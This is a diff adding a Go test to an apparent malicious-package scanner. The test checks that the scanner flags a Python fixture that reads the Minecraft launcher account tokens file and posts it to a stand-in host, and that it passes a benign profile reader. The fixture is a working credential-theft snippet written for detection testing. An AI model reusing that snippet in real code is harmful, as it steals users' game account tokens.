@@ -446,3 +446,14 @@ func TestLookAlikeIdentifiers(t *testing.T) {
 		})
 	}
 }
+
+func TestGameAccountStores(t *testing.T) {
+	r := sdist(t, map[string]string{"p/__main__.py": "import os, requests\nHOOK = 'https://example.invalid/h'\ndef main():\n    p = os.path.join(os.path.expanduser('~'), 'AppData', 'Roaming', '.minecraft', 'launcher_accounts.json')\n    requests.post(HOOK, files={'f': open(p, 'rb')})\nmain()\n"})
+	if r.Verdict == Clean || !hasRule(r, "credential-access", High) {
+		t.Errorf("launcher account tokens posted: %s %+v", r.Verdict, r.Findings)
+	}
+	r = sdist(t, map[string]string{"p/profiles.py": "import json, os\ndef profiles(mc):\n    return json.load(open(os.path.join(mc, 'launcher_profiles.json')))\n"})
+	if r.Verdict != Clean {
+		t.Errorf("launcher profiles read by a mod installer: %s %+v", r.Verdict, r.Findings)
+	}
+}
